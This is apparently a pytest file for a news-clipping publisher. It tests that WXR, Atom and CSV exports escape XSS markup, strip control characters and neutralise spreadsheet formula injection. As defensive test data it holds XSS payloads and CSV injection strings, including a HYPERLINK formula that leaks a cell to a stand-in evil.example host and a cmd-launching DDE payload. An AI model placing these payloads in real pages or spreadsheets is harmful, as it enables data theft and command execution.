"""Hostile clippings on the publishing side (#18.2-18.4) and what a curator
would send (#17.5).

The inputs follow the reproductions of the hostile-content probe: an
article that only quotes ``<script>``, markup in titles and topic names,
control characters in every field, spreadsheet formulas as titles, Greek
tags, tracking parameters, ``-o`` into a missing folder."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from config import load_config
from digest.entries import Entry, Post
from digest.feed import atom_feed
from digest.render import Renderer
from digest.text import spreadsheet_cell, wordpress_text, xml_text
from digest.wordpress import _fields
from digest.wxr import NS, slug, wxr_document
from scraper.items import Clipping
from storage import open_store
from storage.publishing import SITE
from tests.browser import ARGS, CHROMIUM, require_chromium
from tests.publishing import BODIES, ok, presscut, write_config, write_jsonl

QUOTED = "The attackers planted <script>document.title='PWNED-wxr'</script> on the page."
IMG = "<img src=x onerror=\"document.title='PWNED-img'\"> flood"
TOPIC = "<script>alert('topic')</script>"


def record(url: str, title: str, **fields: Any) -> dict[str, Any]:
    """An importable clipping whose text is long enough to be kept."""
    lead = fields.pop("excerpt", title)
    return {
        "url": url,
        "title": title,
        "outlet": "Harbour Herald",
        "published_at": "2026-11-02T09:00:00+00:00",
        "excerpt": lead,
        "text": f"{lead} harbour {BODIES['wall']}",
        **fields,
    }


def posted(tmp_path: Path, records: list[dict[str, Any]]) -> Path:
    """A config whose database holds ``records`` imported, approved and posted."""
    folder = write_config(tmp_path / "config", f"sqlite:///{tmp_path / 'p.db'}")
    c = ("--config", str(folder))
    ok("import", str(write_jsonl(tmp_path / "in.jsonl", records)), *c)
    ids = [str(i) for i in range(1, len(records) + 1)]
    ok("approve", *ids, *c)
    ok("publish", "posts", "--posted-at", "2026-11-03T10:00:00+00:00", *c)
    return folder


def items(wxr: bytes) -> list[dict[str, Any]]:
    root = etree.fromstring(wxr)
    return [
        {
            "title": item.findtext("title"),
            "excerpt": item.findtext("excerpt:encoded", namespaces=NS),
            "content": item.findtext("content:encoded", namespaces=NS),
            "categories": [(c.text, c.get("nicename")) for c in item.findall("category")],
        }
        for item in root.iter("item")
    ]


# -- #18.2: WXR escapes what WordPress stores as HTML -------------------------------


def test_wxr_escapes_title_excerpt_and_terms_like_the_rest_publisher(tmp_path: Path) -> None:
    folder = posted(
        tmp_path,
        [record("https://herald.example.org/a", f"Flood {IMG}", excerpt=QUOTED, topics=[TOPIC])],
    )
    wxr = ok("export", "--format", "wxr", "--config", str(folder)).stdout_bytes
    (item,) = items(wxr)
    # What WordPress will store as post_title / post_excerpt / term name:
    for value in (item["title"], item["excerpt"], *(n for n, _ in item["categories"])):
        assert "<script" not in value and "<img" not in value, value
    assert "&lt;script&gt;document.title=" in item["excerpt"]
    assert item["title"] == wordpress_text(f"Flood {IMG}")
    assert item["categories"][0][0] == wordpress_text(TOPIC)

    class Terms:
        def term_id(self, taxonomy: str, name: str) -> int:
            return 1

    settings = load_config(folder, environ={}).settings
    store = open_store(settings.database.url)
    with store:
        clipping = store.get_clipping(1)
    assert clipping is not None
    from digest.entries import single_post

    post = single_post(1, clipping)
    rest = _fields(Terms(), Renderer(settings), post, "publish")  # type: ignore[arg-type]
    assert rest["title"] == item["title"]
    assert rest["excerpt"] == item["excerpt"]


def run_in_chromium(pages: dict[str, str]) -> dict[str, dict[str, Any]]:
    """Each page loaded in headless Chromium: its ``document.title`` and
    whether any script marked the window, after the page settled."""
    playwright = pytest.importorskip("playwright.sync_api")
    require_chromium()
    seen: dict[str, dict[str, Any]] = {}
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        try:
            for name, html in pages.items():
                page = browser.new_page()  # a fresh window: no mark carried over
                page.set_content(html, wait_until="load")
                page.wait_for_timeout(300)  # onerror handlers run after load
                seen[name] = {
                    "title": page.title(),
                    "marked": page.evaluate("window.__pwned === true"),
                }
                page.close()
        finally:
            browser.close()
    return seen


def theme_page(title: str, excerpt: str, terms: list[str], content: str) -> str:
    """A page laid out as a WordPress theme prints a post: title, excerpt and
    term names as stored (HTML), then the content."""
    links = "".join(f"<li>{t}</li>" for t in terms)
    return (
        "<!doctype html><html><head><title>SAFE</title></head><body>"
        f"<h2>{title}</h2><p class='excerpt'>{excerpt}</p><ul>{links}</ul>"
        f"<div class='content'>{content}</div></body></html>"
    )


def test_no_script_runs_from_wxr_fields_in_a_theme_like_page(tmp_path: Path) -> None:
    mark = "window.__pwned=true;document.title='PWNED'"
    folder = posted(
        tmp_path,
        [
            record(
                "https://herald.example.org/b",
                f'Flood <img src=x onerror="{mark}">',
                excerpt=f"The attackers planted <script>{mark}</script> on the flood page.",
                topics=[f"<svg onload={mark}>"],
            )
        ],
    )
    wxr = ok("export", "--format", "wxr", "--config", str(folder)).stdout_bytes
    (item,) = items(wxr)
    terms = [name for name, _ in item["categories"]]
    pages = {
        # The harness works: the same payload, unescaped, does run.
        "control": theme_page(f'<img src=x onerror="{mark}">', "", [], ""),
        "wxr": theme_page(item["title"], item["excerpt"], terms, item["content"]),
    }
    seen = run_in_chromium(pages)
    assert seen["control"]["marked"] is True, seen
    assert seen["wxr"] == {"title": "SAFE", "marked": False}, seen


# -- #18.3: control characters never stop the Atom feed or WXR ---------------------

CONTROLS = "\x00\x01\x08\x0b\x0c\x1b[2J\x7f\ufffe\ud800"


def hostile_clipping() -> Clipping:
    return Clipping(
        url="https://herald.example.org/c?utm_source=rss",
        canonical_url="https://herald.example.org/c",
        title=f"Title {CONTROLS}",
        headline=f"Headline {CONTROLS}",
        authors=[f"Nul{CONTROLS}Author", CONTROLS],
        outlet=f"Out{CONTROLS}let",
        excerpt=f"Excerpt {CONTROLS}",
        topics=[f"topic{CONTROLS}", CONTROLS],
        matched_terms=[f"term{CONTROLS}"],
        published_at=datetime(2026, 11, 2, 9, tzinfo=UTC),
        posted_at=datetime(2026, 11, 3, 10, tzinfo=UTC),
    )


def renderer(tmp_path: Path) -> Renderer:
    folder = write_config(tmp_path / "config", f"sqlite:///{tmp_path / 'p.db'}")
    return Renderer(load_config(folder, environ={}).settings)


def test_atom_feed_and_wxr_drop_control_characters(tmp_path: Path) -> None:
    from digest.entries import single_post

    render = renderer(tmp_path)
    clipping = hostile_clipping()
    feed = atom_feed(render, [(1, clipping)])
    root = etree.fromstring(feed)  # well-formed
    assert "Headline" in etree.tostring(root, encoding="unicode")
    post = single_post(1, clipping)
    wxr = wxr_document(render, [Post(**{**_post_fields(post), "id": 1})], "desk")
    (item,) = items(wxr)
    # DEL is a legal XML character; the C0 controls, U+FFFE and the lone
    # surrogate are not.
    assert item["title"] == "Headline [2J\x7f"
    assert item["excerpt"] == "Excerpt [2J\x7f"


def _post_fields(post: Post) -> dict[str, Any]:
    return {name: getattr(post, name) for name in Post.__slots__}


def test_feed_and_wxr_commands_survive_a_stored_control_character(tmp_path: Path) -> None:
    folder = posted(
        tmp_path,
        [
            record(
                "https://herald.example.org/d",
                "Bell \x07 in the title",
                headline="Escape \x1b[2J headline",
                authors=["Nul\x01Author"],
                outlet="Out\x02let",
            )
        ],
    )
    c = ("--config", str(folder))
    etree.fromstring(ok("feed", *c).stdout_bytes)
    (item,) = items(ok("export", "--format", "wxr", *c).stdout_bytes)
    assert "\x1b" not in item["title"]


def test_retitled_posts_reach_the_wxr_export(tmp_path: Path) -> None:
    """After a headline is corrected, the posts that copied the old one are
    re-titled (`Store.retitle_posts`; digests keep their titles)."""
    folder = posted(
        tmp_path,
        [record("https://herald.example.org/e", "Old \x01 title", headline="Old \x01 title")],
    )
    c = ("--config", str(folder))
    ok("digest", "--week", "2026-W45", "--posted-at", "2026-11-09T08:00:00+00:00", *c)
    settings = load_config(folder, environ={}).settings
    store = open_store(settings.database.url)
    with store:
        store.edit_clipping(1, {"headline": "Sea wall repaired"}, correction=True)
        # The correction re-titled the post already: nothing left to change.
        assert store.retitle_posts(1, "Sea wall repaired") == 0
        (post,) = store.publications(SITE, "post")
        (digest,) = store.publications(SITE, "digest")
    assert post.title == "Sea wall repaired"
    assert "Sea wall repaired" not in digest.title
    titles = [i["title"] for i in items(ok("export", "--format", "wxr", *c).stdout_bytes)]
    assert "Sea wall repaired" in titles


# -- #18.4: CSV formula injection --------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"flood news")',
    "+1+1 harbour",
    "-2+3 harbour",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2 harbour",
    "\r=1+2 harbour",
]


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    records = [
        record(f"https://herald.example.org/f{n}", title, outlet=title, authors=[title])
        for n, title in enumerate(FORMULAS)
    ]
    folder = write_config(tmp_path / "config", f"sqlite:///{tmp_path / 'p.db'}")
    c = ("--config", str(folder))
    ok("import", str(write_jsonl(tmp_path / "in.jsonl", records)), *c)
    out = ok("export", "--format", "csv", *c).stdout
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert all(
        row["title"].startswith("'=HYPERLINK") for row in rows if "HYPERLINK" in row["title"]
    )
    assert sum(row["title"].startswith("'") for row in rows) == len(FORMULAS)
    assert spreadsheet_cell("-2") == "'-2" and spreadsheet_cell(5) == 5
    assert spreadsheet_cell("plain = text") == "plain = text"


# -- #17.5: what a curator would send ----------------------------------------------


def test_plain_text_posts_and_digests_carry_the_clean_link(tmp_path: Path) -> None:
    url = "https://lakeside.example.org/shingle-bar?utm_source=rss&utm_medium=feed&id=7"
    folder = posted(tmp_path, [record(url, "Shingle bar breach floods homes")])
    c = ("--config", str(folder))
    week = ("--week", "2026-W45", "--posted-at", "2026-11-09T08:00:00+00:00")
    clean = "https://lakeside.example.org/shingle-bar?id=7"
    outputs = {
        "digest.txt": ok("digest", *week, "--format", "txt", *c).stdout,
        "post.txt": ok("post", "1", "--format", "txt", *c).stdout,
        "post.html": ok("post", "1", "--format", "html", *c).stdout,
        "feed": ok("feed", *c).stdout,
        "wxr": ok("export", "--format", "wxr", *c).stdout,
    }
    for name, text in outputs.items():
        assert "utm_" not in text, name
    assert f"\n{clean}\n" in outputs["post.txt"]
    assert f"\n{clean}\n" in outputs["digest.txt"]
    assert clean in outputs["feed"]
    assert clean in outputs["wxr"]


def test_wxr_slugs_transliterate_other_scripts() -> None:
    assert slug("πλημμύρα") == "plemmura"
    assert slug("πλημμύρες") != slug("πλημμύρα")
    assert slug("Foreign policy") == "foreign-policy"
    assert slug("\x01") == "item"


def test_wxr_tags_in_greek_get_their_own_slugs(tmp_path: Path) -> None:
    entry = Entry(
        id=1,
        headline="Πλημμύρες στη Θεσσαλία",
        title="Πλημμύρες στη Θεσσαλία",
        url="https://news.example.gr/a",
        credit="",
        authors=(),
        via=None,
        outlet="Kathimerini",
        published_at=None,
        excerpt="Νερό παντού.",
        paraphrased=False,
        topics=("floods",),
        matched_terms=("πλημμύρα", "πλημμύρες"),
        cluster="c1",
    )
    post = Post(kind="post", title=entry.headline, posted_at=None, entries=(entry,), id=1)
    (item,) = items(wxr_document(renderer(tmp_path), [post], "desk"))
    tags = dict(item["categories"])
    assert tags["πλημμύρα"] == "plemmura" and tags["πλημμύρες"] == "plemmures"


def test_output_into_a_missing_folder_is_created(tmp_path: Path) -> None:
    folder = posted(tmp_path, [record("https://herald.example.org/g", "Harbour news")])
    target = tmp_path / "new" / "dir" / "d.md"
    ok("digest", "--week", "2026-W45", "-f", "md", "-o", str(target), "--config", str(folder))
    assert "Harbour news" in target.read_text(encoding="utf-8")


def test_an_output_that_cannot_be_written_records_no_digest(tmp_path: Path) -> None:
    folder = posted(tmp_path, [record("https://herald.example.org/h", "Harbour news")])
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder", encoding="utf-8")
    target = blocker / "d.md"
    result = presscut("digest", "--week", "2026-W45", "-o", str(target), "--config", str(folder))
    assert result.exit_code == 1
    assert f"cannot write {target}" in result.stderr
    assert "Traceback" not in result.output
    store = open_store(load_config(folder, environ={}).settings.database.url)
    with store:
        assert store.publications(SITE, "digest") == []


def test_xml_text_keeps_what_xml_can_hold() -> None:
    assert xml_text("a\tb\nc\rd é 😀") == "a\tb\nc\rd é 😀"
    assert xml_text("a\x00b\x1bc\ud800d\uffff") == "abcd"
    assert xml_text(None) == ""
